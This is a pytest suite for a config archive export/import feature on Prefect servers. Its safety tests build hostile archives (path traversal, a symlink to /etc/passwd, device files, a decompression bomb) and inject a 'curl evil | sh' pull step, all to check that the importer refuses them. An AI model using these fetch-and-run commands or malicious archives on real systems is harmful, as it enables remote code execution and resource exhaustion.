"""Config backup: the archive's safety checks (no server), then export → import between the
session server and a second, empty Prefect server started here."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import socket
import subprocess
import sys
import tarfile
import time
import tracemalloc
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

import setlist.backup.config.archive as config_archive
from setlist.backup.config.archive import (
    MAX_UNCOMPRESSED_BYTES,
    build_archive,
    load_archive,
    read_members,
)
from setlist.backup.config.entries import (
    KIND_MEMBERS,
    MASK,
    AutomationEntry,
    BlockEntry,
    BlockSchemaEntry,
    BlockTypeEntry,
    ConfigBackupError,
    ConfigClash,
    DeploymentEntry,
    LimitEntry,
    PoolEntry,
    QueueEntry,
    Snapshot,
    VariableEntry,
    WrongPassphrase,
)
from setlist.backup.config.export import export_config, read_snapshot
from setlist.backup.config.importer import import_config
from setlist.backup.config.secrets import split_secrets
from tests.helpers import wait_for_events

EXPORTED_AT = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
SECRET = "s3cr3t-" + uuid.uuid4().hex


# --------------------------------------------------------------------------- helpers


def _snapshot(secret: str | None = SECRET) -> Snapshot:
    """A small snapshot: one pool and queue, a limit, a variable, a Secret block."""
    block_id = uuid.uuid4()
    return Snapshot(
        block_types=[BlockTypeEntry(slug="secret", name="Secret")],
        block_schemas=[
            BlockSchemaEntry(
                checksum="sha256:abc",
                version="3",
                block_type_slug="secret",
                fields={"secret_fields": ["value"]},
            )
        ],
        blocks=[
            BlockEntry(
                id=block_id,
                name="hook",
                block_type_slug="secret",
                block_schema_checksum="sha256:abc",
                block_schema_version="3",
                data={"value": MASK},
                secret_paths=[["value"]],
            )
        ],
        work_pools=[PoolEntry(id=uuid.uuid4(), name="pool", type="process")],
        work_queues=[QueueEntry(id=uuid.uuid4(), pool="pool", name="default", priority=1)],
        concurrency_limits=[LimitEntry(id=uuid.uuid4(), name="setlist-tenant-a", limit=3)],
        variables=[VariableEntry(id=uuid.uuid4(), name="v", value={"k": 1})],
        deployments=[
            DeploymentEntry(
                id=uuid.uuid4(),
                flow_id=uuid.uuid4(),
                flow_name="canary",
                name="t",
                pull_steps=[
                    {"prefect.deployments.steps.set_working_directory": {"directory": "/code"}}
                ],
            )
        ],
        automations=[
            AutomationEntry(
                id=uuid.uuid4(),
                name="alert",
                trigger={"type": "event"},
                actions=[{"type": "do-nothing"}],
            )
        ],
        secrets={str(block_id): [(["value"], secret)]} if secret else None,
    )


class RecordingClient:
    """Stands in for a Prefect client: any request is recorded (and fails the test)."""

    def __init__(self) -> None:
        self.calls: list[tuple] = []

    async def request(self, method, path, **kwargs):
        self.calls.append((method, path))
        raise AssertionError(f"the import reached the server: {method} {path}")


def _tar_gz(entries: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz,
        tarfile.open(fileobj=gz, mode="w|", format=tarfile.USTAR_FORMAT) as tar,
    ):
        for info, body in entries:
            tar.addfile(info, io.BytesIO(body) if body is not None else None)
    return buf.getvalue()


def _file(name: str, body: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(body)
    return info, body


def _valid_members(**kwargs) -> dict[str, bytes]:
    return read_members(build_archive(_snapshot(**kwargs), exported_at=EXPORTED_AT))


def _repack(members: dict[str, bytes], first: tuple[tarfile.TarInfo, bytes | None] | None = None):
    entries = [first] if first else []
    return _tar_gz(entries + [_file(n, b) for n, b in members.items()])


async def _refused(tmp_path: Path, archive: bytes, match: str, **kwargs) -> None:
    """The import refuses ``archive`` with ``match`` and never talks to the server."""
    path = tmp_path / "config.tar.gz"
    path.write_bytes(archive)
    client = RecordingClient()
    with pytest.raises(ConfigBackupError, match=match):
        await import_config(client, path, **kwargs)
    assert client.calls == []


class Zeros(io.RawIOBase):
    """``size`` zero bytes, produced on demand."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, b) -> int:
        n = min(len(b), self.left)
        b[:n] = bytes(n)
        self.left -= n
        return n


def _bomb(info: tarfile.TarInfo, size: int) -> bytes:
    """A tar.gz whose first member is ``size`` bytes of zeros, streamed (never in memory)."""
    info.size = size
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0, compresslevel=6) as gz:
        gz.write(info.tobuf(format=tarfile.USTAR_FORMAT))
        zeros = Zeros(size)
        while chunk := zeros.read(1 << 20):
            gz.write(chunk)
        gz.write(bytes(-size % 512) + bytes(1024))
    return buf.getvalue()


# --------------------------------------------------------------------------- the archive


def test_archive_is_deterministic_and_reads_back():
    snapshot = _snapshot(secret=None)
    one = build_archive(snapshot, exported_at=EXPORTED_AT)
    two = build_archive(snapshot, exported_at=EXPORTED_AT)
    assert one == two
    archive = load_archive(one)
    assert archive.snapshot.model_dump(exclude={"secrets"}) == snapshot.model_dump(
        exclude={"secrets"}
    )
    manifest = archive.manifest
    assert manifest["exported_at"] == "2026-01-02T03:04:05Z"
    assert manifest["counts"]["work_pools"] == 1 and manifest["needs_secret"] == ["secret/hook"]
    assert set(manifest["members"]) == set(KIND_MEMBERS)
    with tarfile.open(fileobj=io.BytesIO(one), mode="r:gz") as tar:
        names = tar.getnames()
    assert names[:2] == ["manifest.json", "seal.json"] and names[2:] == sorted(KIND_MEMBERS)


def test_secret_values_never_in_the_archive_bytes():
    plain = build_archive(_snapshot(secret=None), exported_at=EXPORTED_AT)
    sealed = build_archive(_snapshot(), passphrase="correct horse", exported_at=EXPORTED_AT)
    for body in (plain, sealed):
        assert SECRET.encode() not in body and SECRET.encode() not in gzip.decompress(body)
    archive = load_archive(sealed, "correct horse")
    block = archive.snapshot.blocks[0]
    assert archive.snapshot.secrets == {str(block.id): [(["value"], SECRET)]}
    assert archive.manifest["secrets_included"] is True


def test_split_secrets_masks_set_values_only():
    data = {"url": "u", "token": "t0k", "empty": None, "secrets": {"a": "x", "b": "y"}}
    masked, found = split_secrets(data, ["token", "empty", "secrets.*", "absent"])
    assert masked == {
        "url": "u",
        "token": MASK,
        "empty": None,
        "secrets": {"a": MASK, "b": MASK},
    }
    assert found == [(["secrets", "a"], "x"), (["secrets", "b"], "y"), (["token"], "t0k")]
    assert split_secrets({"secrets": None}, ["secrets.*"]) == ({"secrets": None}, [])


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    return info


@pytest.mark.parametrize(
    "bad,match",
    [
        (_file("../x", b"{}"), "climbs out"),
        (_file("work_pools.json/../../x", b"{}"), "climbs out"),
        (_file("/etc/x", b"{}"), "absolute path"),
        (_file("notes.txt", b"hello"), "not part of a Setlist config archive"),
        (_file("sub/work_pools.json", b"[]"), "not part of a Setlist config archive"),
        ((_member("work_pools.json", tarfile.SYMTYPE, "/etc/passwd"), None), "symbolic link"),
        ((_member("work_pools.json", tarfile.LNKTYPE, "manifest.json"), None), "hard link"),
        ((_member("work_pools.json", tarfile.CHRTYPE), None), "device file"),
        ((_member("work_pools.json", tarfile.BLKTYPE), None), "device file"),
        ((_member("work_pools.json", tarfile.FIFOTYPE), None), "FIFO"),
        ((_member("blocks.json", tarfile.DIRTYPE), None), "directory"),
    ],
    ids=[
        "dotdot",
        "dotdot-nested",
        "absolute",
        "unknown",
        "subdir",
        "symlink",
        "hardlink",
        "chardev",
        "blockdev",
        "fifo",
        "dir",
    ],
)
async def test_unsafe_members_are_refused_before_any_write(tmp_path, bad, match):
    members = _valid_members(secret=None)
    await _refused(tmp_path, _repack(members, first=bad), match)


async def test_duplicate_member_is_refused(tmp_path):
    members = _valid_members(secret=None)
    archive = _tar_gz([_file(n, b) for n, b in members.items()] + [_file("blocks.json", b"[]")])
    await _refused(tmp_path, archive, "appears twice")


async def test_decompression_bomb_is_refused_without_inflating_it(tmp_path):
    size = 200 * 1024 * 1024
    archive = _bomb(tarfile.TarInfo("deployments.json"), size)
    assert len(archive) < 1024 * 1024  # 200 MiB of zeros compress to a few hundred KiB
    tracemalloc.start()
    try:
        await _refused(tmp_path, archive, "decompression bomb")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024


async def test_oversized_header_is_cut_off_at_the_inflate_cap(tmp_path):
    # A pax header is read whole by tarfile before any member check: the capped
    # decompressor stops it at the limit instead of inflating all 200 MiB.
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type = tarfile.XHDTYPE
    archive = _bomb(pax, 200 * 1024 * 1024)
    tracemalloc.start()
    try:
        await _refused(tmp_path, archive, "inflates beyond 64 MiB")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MAX_UNCOMPRESSED_BYTES + 32 * 1024 * 1024


async def test_oversized_file_and_garbage_are_refused(tmp_path, monkeypatch):
    await _refused(tmp_path, b"this is not gzip at all", "not a readable")
    await _refused(tmp_path, gzip.compress(b"not a tar" * 100), "not a readable|no manifest")
    monkeypatch.setattr(config_archive, "MAX_ARCHIVE_BYTES", 1024)
    await _refused(tmp_path, os.urandom(2048), "larger than")


async def test_tampered_or_incomplete_archive_is_refused(tmp_path):
    members = _valid_members(secret=None)
    tampered = {**members, "variables.json": members["variables.json"].replace(b'"k"', b'"K"')}
    await _refused(tmp_path, _repack(tampered), "SHA-256")

    missing = {n: b for n, b in members.items() if n != "automations.json"}
    await _refused(tmp_path, _repack(missing), "missing: \\['automations.json'\\]")

    no_manifest = {n: b for n, b in members.items() if n != "manifest.json"}
    await _refused(tmp_path, _repack(no_manifest), "no manifest.json")

    # Re-hashing the manifest no longer helps: the seal covers it.
    bad = _rehash({**members, "work_pools.json": b'[{"name": "p"}]'}, "work_pools.json")
    await _refused(tmp_path, _repack(bad), "seal does not verify")
    # Sealed by the platform itself, malformed content is still refused.
    await _refused(tmp_path, _repack(_reseal(bad)), "malformed object at work_pools")
    # No seal at all: an unsealed archive is not read.
    unsealed = {n: b for n, b in members.items() if n != "seal.json"}
    await _refused(tmp_path, _repack(unsealed), "no seal.json")


def _rehash(members: dict[str, bytes], *names: str) -> dict[str, bytes]:
    """``members`` with the manifest's SHA-256 of ``names`` made to match (what anyone
    editing an archive can do)."""
    manifest = json.loads(members["manifest.json"])
    for name in names:
        manifest["members"][name]["sha256"] = hashlib.sha256(members[name]).hexdigest()
    return {**members, "manifest.json": json.dumps(manifest).encode()}


def _reseal(members: dict[str, bytes], passphrase: str | None = None) -> dict[str, bytes]:
    """``members`` sealed again, as only the platform (or the passphrase's holder) can."""
    from setlist.backup.config.seal import make_seal

    return {**members, "seal.json": make_seal(members["manifest.json"], passphrase)}


async def test_an_edited_archive_is_refused_before_anything_is_read(tmp_path):
    """The attack: a pull step that runs a shell, fixed checksums, the operator's
    passphrase. The seal fails; and were it re-sealed, the step is not allowed."""
    sealed = read_members(
        build_archive(_snapshot(), passphrase="correct horse", exported_at=EXPORTED_AT)
    )
    deployments = json.loads(sealed["deployments.json"])
    step = {"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}
    for dep in deployments:
        dep["pull_steps"] = [step]
    edited = _rehash(
        {**sealed, "deployments.json": json.dumps(deployments).encode()}, "deployments.json"
    )
    await _refused(tmp_path, _repack(edited), "seal does not verify", passphrase="correct horse")
    resealed = _reseal(edited, "correct horse")
    await _refused(tmp_path, _repack(resealed), "run_shell_script", passphrase="correct horse")


async def test_an_archive_sealed_elsewhere_needs_its_passphrase(tmp_path, monkeypatch):
    from setlist.core import credentials

    plain = build_archive(_snapshot(secret=None), exported_at=EXPORTED_AT)
    monkeypatch.setenv("SETLIST_PLATFORM_KEY", "another platform's key")
    assert credentials.derived_key("config-archive") != b""
    await _refused(tmp_path, plain, "sealed by another platform")
    moved = build_archive(_snapshot(secret=None), passphrase="moving day", exported_at=EXPORTED_AT)
    monkeypatch.delenv("SETLIST_PLATFORM_KEY")
    assert load_archive(moved, "moving day").snapshot.work_pools
    await _refused(tmp_path, moved, "sealed with a passphrase")


@pytest.mark.parametrize("action", ["call-webhook", "run-shell", None])
async def test_an_automation_action_outside_the_allow_list_is_refused(tmp_path, action):
    members = _valid_members(secret=None)
    automations = json.loads(members["automations.json"])
    assert automations, "the sample snapshot has an automation to edit"
    automations[0]["actions"] = [{"type": action, "block_document_id": str(uuid.uuid4())}]
    edited = _rehash(
        {**members, "automations.json": json.dumps(automations).encode()}, "automations.json"
    )
    await _refused(tmp_path, _repack(_reseal(edited)), "may not bring")


async def test_secrets_need_the_right_passphrase(tmp_path):
    sealed = build_archive(_snapshot(), passphrase="correct horse", exported_at=EXPORTED_AT)
    await _refused(tmp_path, sealed, "wrong passphrase", passphrase="wrong horse")
    await _refused(tmp_path, sealed, "sealed with a passphrase")
    with pytest.raises(ConfigBackupError, match="at least 8 characters"):
        build_archive(_snapshot(), passphrase="short")
    # Secrets moved onto another archive's block list do not decrypt either, even under
    # a seal made with the right passphrase.
    members = read_members(sealed)
    other = read_members(build_archive(_snapshot(secret=None), exported_at=EXPORTED_AT))
    members = _rehash({**members, "blocks.json": other["blocks.json"]}, "blocks.json")
    await _refused(tmp_path, _repack(members), "wrong passphrase", passphrase="correct horse")
    members = _reseal(members, "correct horse")
    await _refused(tmp_path, _repack(members), "do not decrypt", passphrase="correct horse")


# --------------------------------------------------------------------------- real servers


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def empty_server(tmp_path_factory):
    """A second Prefect server, on its own SQLite database, holding nothing yet."""
    home = tmp_path_factory.mktemp("prefect-empty")
    port = _free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    env.update(
        PREFECT_HOME=str(home),
        PREFECT_API_DATABASE_CONNECTION_URL=f"sqlite+aiosqlite:///{home}/prefect.db",
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
        PREFECT_UI_ENABLED="false",
        PREFECT_SERVER_SERVICES_SCHEDULER_ENABLED="false",
        PREFECT_SERVER_SERVICES_LATE_RUNS_ENABLED="false",
    )
    log = (home / "server.log").open("wb")
    proc = subprocess.Popen(
        [str(Path(sys.executable).parent / "prefect"), "server", "start"]
        + ["--host", "127.0.0.1", "--port", str(port)],
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    url = f"http://127.0.0.1:{port}/api"
    deadline = time.monotonic() + 180
    try:
        while True:
            if proc.poll() is not None:
                pytest.fail("the empty server exited:\n" + (home / "server.log").read_text())
            try:
                if httpx.get(f"{url}/health", timeout=2).status_code == 200:
                    break
            except httpx.HTTPError:
                pass
            if time.monotonic() > deadline:
                pytest.fail("the empty server did not become healthy in 180 s")
            time.sleep(0.5)
        yield url
    finally:
        proc.terminate()
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(10)
        log.close()


async def _seed(client, tenant_id: str) -> dict:
    """Representative objects on the session server: an onboarded tenant and extras."""
    from prefect.blocks.notifications import CustomWebhookNotificationBlock
    from prefect.blocks.system import Secret
    from prefect.client.schemas.actions import (
        DeploymentScheduleCreate,
        VariableCreate,
        WorkPoolCreate,
    )
    from prefect.client.schemas.schedules import IntervalSchedule
    from prefect.events.actions import SendNotification
    from prefect.events.schemas.automations import AutomationCore, EventTrigger, Posture

    from blocks import S3StorageConfig
    from blocks.tenant import TrainingPolicy
    from setlist.core.tenancy import TenantQuota
    from setlist.tenants.onboarding import TenantSpec, create_tenant

    values = {
        "secret": "hook-" + uuid.uuid4().hex,
        "s3": "sk-" + uuid.uuid4().hex,
        "token": "tok-" + uuid.uuid4().hex,
    }
    await create_tenant(
        client,
        TenantSpec(
            tenant_id=tenant_id,
            quota=TenantQuota(concurrent_jobs=3),
            training_policy=TrainingPolicy.after_etl,
        ),
    )
    low = await client.read_work_queue_by_name(f"{tenant_id}.low", work_pool_name="setlist-local")
    await client.update_work_queue(low.id, concurrency_limit=2, is_paused=True)
    await Secret(value=values["secret"]).asave(f"{tenant_id}-hook")
    await S3StorageConfig(
        bucket="b", aws_access_key_id="AK", aws_secret_access_key=values["s3"]
    ).asave(f"{tenant_id}-s3")
    hook = await CustomWebhookNotificationBlock(
        name="alerts", url="https://hooks.example/x", secrets={"token": values["token"]}
    ).asave(f"{tenant_id}-alerts")
    await client.create_automation(
        AutomationCore(
            name=f"{tenant_id}: failed",
            tags=["setlist"],
            trigger=EventTrigger(
                expect={"prefect.flow-run.Failed"}, posture=Posture.Reactive, threshold=1
            ),
            actions=[SendNotification(block_document_id=hook, subject="s", body="b")],
        )
    )
    await client.create_variable(
        VariableCreate(name=f"{tenant_id}-var".replace("-", "_"), value={"a": [1, 2]}, tags=["t"])
    )
    pool = f"cfg-{tenant_id}"
    await client.create_work_pool(
        WorkPoolCreate(name=pool, type="process", concurrency_limit=7, is_paused=True)
    )
    await client.create_deployment(
        flow_id=await client.create_flow_from_name("config-probe"),
        name=tenant_id,
        work_pool_name=pool,
        entrypoint="flows/canary.py:canary",
        parameters={"x": 1},
        concurrency_limit=2,
        tags=["probe"],
        schedules=[
            DeploymentScheduleCreate(
                schedule=IntervalSchedule(interval=timedelta(hours=1)),
                active=False,
                max_scheduled_runs=3,
                slug="hourly",
            )
        ],
    )
    return values


@pytest.fixture
async def seeded(client, tenant_id):
    """``_seed``'s objects, and the tenant's queue its pause released afterwards: a
    paused tenant queue left on the session server fails the deep health check of every
    later test that runs without a dispatcher leading."""
    values = await _seed(client, tenant_id)
    yield values
    low = await client.read_work_queue_by_name(f"{tenant_id}.low", work_pool_name="setlist-local")
    await client.update_work_queue(low.id, is_paused=False)


_ID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")


def _sets_sorted(value):
    """Sets (a trigger's ``expect``, ``after``) dump as lists in hash order, which differs
    between processes: sort every list of strings."""
    if isinstance(value, dict):
        return {k: _sets_sorted(v) for k, v in value.items()}
    if isinstance(value, list):
        items = [_sets_sorted(v) for v in value]
        return sorted(items) if all(isinstance(v, str) for v in items) else items
    return value


def _normal(snapshot: Snapshot, kind: str, skip: set[str] = frozenset()) -> list[str]:
    """A kind's objects as JSON with every id blanked: comparable across servers."""
    out = []
    for entry in getattr(snapshot, kind):
        label = getattr(entry, "label", None) or getattr(entry, "name", "")
        if label in skip:
            continue
        dumped = _sets_sorted(entry.model_dump(mode="json", exclude={"id"}))
        text = json.dumps(dumped, sort_keys=True)
        out.append(_ID.sub("<id>", text))
    return sorted(out)


@pytest.mark.server
async def test_round_trip_into_an_empty_server(client, tenant_id, empty_server, tmp_path, seeded):
    from prefect.client.orchestration import PrefectClient
    from prefect.exceptions import ObjectNotFound

    values = seeded
    path = tmp_path / "config.tar.gz"
    report = await export_config(client, path, exported_at=EXPORTED_AT)
    raw = path.read_bytes()
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    for value in values.values():
        assert value.encode() not in raw and value.encode() not in gzip.decompress(raw)
    needing = {f"secret/{tenant_id}-hook", f"setlist-s3-storage/{tenant_id}-s3"}
    assert needing | {f"custom-webhook/{tenant_id}-alerts"} <= set(report.needs_secret)
    with pytest.raises(ConfigBackupError, match="exists"):
        await export_config(client, path)

    source = await read_snapshot(client)
    async with PrefectClient(api=empty_server) as b:
        result = await import_config(b, path)
        skipped = {(kind, name): reason for kind, name, reason in result.skipped}
        assert skipped[("block", f"secret/{tenant_id}-hook")] == "needs secret"
        assert skipped[("block", f"custom-webhook/{tenant_id}-alerts")] == "needs secret"
        assert skipped[("automation", f"{tenant_id}: failed")] == (
            f"needs block custom-webhook/{tenant_id}-alerts"
        )
        copy = await read_snapshot(b)
        # the import is on the target's audit trail, as an act on the platform
        (imported, *_) = await wait_for_events(b, None, "setlist.config.imported")
        assert imported.resource.id == "setlist.platform"
        assert imported.payload["skipped"] == len(result.skipped) and imported.payload["actor"]

        # Everything but what needs a secret is there, as it was (ids aside).
        skip = {name for _, name in skipped}
        kinds = ["work_pools", "work_queues", "concurrency_limits", "variables"]
        for kind in [*kinds, "deployments", "automations", "blocks"]:
            assert _normal(copy, kind) == _normal(source, kind, skip), kind

        # The tenant's objects, read through the client.
        limit = await b.read_global_concurrency_limit_by_name(f"setlist-tenant-{tenant_id}")
        assert limit.limit == 3
        queues = {q.name: q for q in await b.read_work_queues(work_pool_name="setlist-local")}
        low = queues[f"{tenant_id}.low"]
        assert (low.concurrency_limit, low.is_paused) == (2, True)
        bands = ("critical", "high", "normal", "low", "batch")
        ranks = [queues[f"{tenant_id}.{band}"].priority for band in bands]
        assert ranks == sorted(ranks)
        canary = await b.read_deployment_by_name(f"canary/{tenant_id}")
        assert canary.global_concurrency_limit.id == limit.id
        assert canary.parameters == {"tenant_id": tenant_id}
        assert canary.job_variables["tenant"] == tenant_id
        probe = await b.read_deployment_by_name(f"config-probe/{tenant_id}")
        assert probe.global_concurrency_limit.name == f"deployment:{probe.id}"
        assert probe.global_concurrency_limit.limit == 2
        (schedule,) = probe.schedules
        assert (schedule.active, schedule.slug) == (False, "hourly")
        assert schedule.schedule.interval == timedelta(hours=1)
        pool = await b.read_work_pool(f"cfg-{tenant_id}")
        assert (pool.concurrency_limit, pool.is_paused) == (7, True)

        # Deployment triggers run the new deployment and belong to it.
        etl = await b.read_deployment_by_name(f"data-etl/{tenant_id}")
        owned = await b.read_resource_related_automations(f"prefect.deployment.{etl.id}")
        # data arrived, stream compaction due
        assert [str(a.actions[0].deployment_id) for a in owned] == [str(etl.id)] * 2
        await b.delete_resource_owned_automations(f"prefect.deployment.{etl.id}")
        assert await b.read_resource_related_automations(f"prefect.deployment.{etl.id}") == []

        profile = await b.read_block_document_by_name(
            f"tenant-{tenant_id}", "setlist-tenant-profile"
        )
        assert profile.data["quota"]["concurrent_jobs"] == 3
        absent = [(f"{tenant_id}-hook", "secret"), (f"{tenant_id}-s3", "setlist-s3-storage")]
        for name, slug in absent:
            with pytest.raises(ObjectNotFound):
                await b.read_block_document_by_name(name, slug)

        # Importing again is refused, naming the clashes, and writes nothing.
        before = len(await b.read_automations())
        with pytest.raises(ConfigClash, match="already holds") as clash:
            await import_config(b, path)
        assert f"deployment canary/{tenant_id}" in clash.value.clashes
        assert len(await b.read_automations()) == before


@pytest.mark.server
async def test_secrets_round_trip_with_passphrase(
    client, tenant_id, empty_server, tmp_path, seeded
):
    from prefect.client.orchestration import PrefectClient

    values = seeded
    path = tmp_path / "config.tar.gz"
    report = await export_config(client, path, include_secrets=True, passphrase="a long passphrase")
    assert report.secrets_included and report.needs_secret == []
    raw = path.read_bytes()
    for value in values.values():
        assert value.encode() not in raw and value.encode() not in gzip.decompress(raw)

    async with PrefectClient(api=empty_server) as b:
        blocks_before = len(await b.read_block_documents(include_secrets=False))
        with pytest.raises(WrongPassphrase):
            await import_config(b, path, passphrase="not the passphrase", replace=True)
        assert len(await b.read_block_documents(include_secrets=False)) == blocks_before

        result = await import_config(b, path, passphrase="a long passphrase", replace=True)
        assert not [s for s in result.skipped if s[2] == "needs secret"]
        hook = await b.read_block_document_by_name(f"{tenant_id}-hook", "secret")
        assert hook.data["value"] == values["secret"]
        s3 = await b.read_block_document_by_name(f"{tenant_id}-s3", "setlist-s3-storage")
        assert s3.data["aws_secret_access_key"] == values["s3"]
        alerts = await b.read_block_document_by_name(f"{tenant_id}-alerts", "custom-webhook")
        assert alerts.data["secrets"] == {"token": values["token"]}
        (automation,) = await b.read_automations_by_name(f"{tenant_id}: failed")
        assert automation.actions[0].block_document_id == alerts.id


@pytest.mark.server
def test_cli_export_and_refused_import(prefect_server, tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from setlist.cli import app

    runner = CliRunner()
    path = tmp_path / "cli.tar.gz"
    monkeypatch.setenv("SETLIST_CONFIG_PASSPHRASE", "cli passphrase")
    r = runner.invoke(app, ["config", "export", str(path), "--include-secrets"])
    assert r.exit_code == 0, r.output
    assert "encrypted with the passphrase" in r.output
    # The session server holds everything the archive does: refused, exit 2, reason given.
    r = runner.invoke(app, ["config", "import", str(path)])
    assert r.exit_code == 2, r.output
    assert "already holds" in r.output and "--replace" in r.output
    monkeypatch.setenv("SETLIST_CONFIG_PASSPHRASE", "wrong passphrase")
    r = runner.invoke(app, ["config", "import", str(path)])
    assert r.exit_code == 2 and "wrong passphrase" in r.output
